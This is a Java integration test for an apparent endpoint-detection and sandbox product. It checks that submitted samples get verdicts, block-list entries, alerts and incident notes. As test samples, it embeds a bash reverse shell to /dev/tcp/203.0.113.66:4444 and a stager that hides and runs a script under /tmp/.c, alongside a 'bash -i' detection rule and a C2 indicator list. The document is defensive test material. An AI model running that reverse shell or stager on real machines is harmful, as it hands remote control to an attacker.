package dev.kiroku.it;

import com.fasterxml.jackson.databind.JsonNode;
import dev.kiroku.event.EntityIds;
import dev.kiroku.event.Event;
import dev.kiroku.event.ProcessInfo;
import dev.kiroku.event.ProcessStart;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.security.MessageDigest;
import java.time.Instant;
import java.util.HexFormat;
import java.util.List;
import java.nio.file.Path;
import java.time.Duration;
import java.util.concurrent.TimeUnit;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * The sandbox in the real server with the real agent recording the machine (as {@code ./kiroku demo}
 * runs it): samples submitted over REST are detonated and recorded by that agent (no second agent),
 * a high verdict puts the hash on the fleet block list and raises an alert, a medium verdict raises
 * an alert and blocks nothing; an open incident whose alert names the high sample's hash gets the verdict as a note
 * and the block as an action; the server's user rules and imported indicators judge the detonation too. Needs root.
 */
@Timeout(value = 15, unit = TimeUnit.MINUTES)
class SandboxLoopTest {
    @TempDir
    Path dir;

    @Test
    void verdictsReachTheBlockListAndTheAnalyst() throws Exception {
        try (RecordingMachine machine = new RecordingMachine(dir.resolve("data"), Files.createDirectories(dir.resolve("watched")))) {
            Api api = machine.api;
            String revshell = "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.66/4444 0>&1\n";
            String incident = openIncidentNaming(machine, sha256(revshell));
            // The server's own rules and indicators judge detonations too: a user rule and an imported C2 list.
            api.post("/api/v1/rules?name=interactive-bash.yml", """
                    title: Interactive bash (user rule of this test)
                    id: 5f0c8a52-2d4e-4b8c-9a51-6b7e3c1d9e01
                    status: test
                    level: medium
                    logsource: {product: linux, category: process_creation}
                    detection:
                      sel: {CommandLine|contains: 'bash -i'}
                      condition: sel
                    """);
            api.post("/api/v1/indicators?name=c2-addresses.txt", "203.0.113.66\n");
            JsonNode high = analyse(api, "revshell.sh", revshell);
            assertThat(high.path("detonation").path("rules").toString()).as("rules that fired in the detonation")
                    .contains("5f0c8a52-2d4e-4b8c-9a51-6b7e3c1d9e01").contains("Indicator match").contains("203.0.113.66");
            assertThat(high.path("verdict").asText()).as(high.toString()).isEqualToIgnoringCase("high");
            JsonNode detonation = high.path("detonation");
            assertThat(detonation.path("recording").asText()).startsWith("the kiroku agent already recording this machine")
                    .doesNotContain("did not arrive");
            assertThat(detonation.path("processes").toString()).contains("bash -i");
            assertThat(detonation.path("connections").toString()).contains("\"seenBy\":\"sensor\"").contains("203.0.113.66");
            String highHash = high.path("sha256").asText();

            JsonNode medium = analyse(api, "stager.sh", "#!/bin/sh\nmkdir -p /tmp/.c\nprintf '#!/bin/sh\\nid\\n' > /tmp/.c/s2\n"
                    + "chmod +x /tmp/.c/s2\n/tmp/.c/s2\n");
            assertThat(medium.path("verdict").asText()).as(medium.toString()).isEqualToIgnoringCase("medium");
            String mediumHash = medium.path("sha256").asText();

            await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> {
                assertThat(api.get("/api/v1/alerts?rule=sandbox-verdict-high").toString()).contains(highHash);
                assertThat(api.get("/api/v1/alerts?rule=sandbox-verdict-medium").toString()).contains(mediumHash);
            });
            String blocked = api.get("/api/v1/blocklist").toString();
            assertThat(blocked).contains(highHash).contains("sandbox verdict high").doesNotContain(mediumHash);
            await().atMost(Duration.ofSeconds(30)).untilAsserted(() -> assertThat(api.get("/api/v1/incidents/" + incident).toString())
                    .as("the open incident whose alert names the hash is marked").contains("sandbox").contains("block_hash"));
        }
    }

    /**
     * An alert about a process whose executable has the given hash (an event through the server's real ingest and
     * detection, from another endpoint), grouped into an open incident; returns the incident's id.
     */
    private static String openIncidentNaming(RecordingMachine machine, String sha256) throws Exception {
        ProcessInfo chattr = new ProcessInfo(EntityIds.process("it-suspect-host", 4242, 42), 4242, Instant.now(), null,
                "/usr/bin/chattr", List.of("chattr", "+i", "/etc/cron.d/job"), "/root", sha256,
                new ProcessInfo.Credentials(0, "root", 0, "root", 0, 0, 0), 1, null, null);
        machine.server.ingest().deliver(List.of(new Event("it-suspect-host", 1, Instant.now(), "suspect", List.of(),
                new ProcessStart(chattr, false))));
        return await().atMost(Duration.ofSeconds(60)).until(() -> {
            for (JsonNode incident : machine.api.get("/api/v1/incidents").path("incidents")) {
                if (machine.api.get("/api/v1/incidents/" + incident.path("id").asText()).toString().contains(sha256)) {
                    return incident.path("id").asText();
                }
            }
            return null;
        }, id -> id != null);
    }

    private static String sha256(String content) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(content.getBytes(StandardCharsets.UTF_8)));
    }

    /** Submits over REST and waits for the report. */
    private static JsonNode analyse(Api api, String name, String content) {
        JsonNode submitted = api.post("/api/v1/sandbox/samples?name=" + name + "&time_limit=5", content);
        String sha256 = submitted.path("sha256").asText();
        await().atMost(Duration.ofMinutes(4)).pollInterval(Duration.ofSeconds(1))
                .until(() -> api.get("/api/v1/sandbox/samples/" + sha256).path("state").asText().equals("DONE"));
        return api.get("/api/v1/sandbox/reports/" + sha256);
    }
}
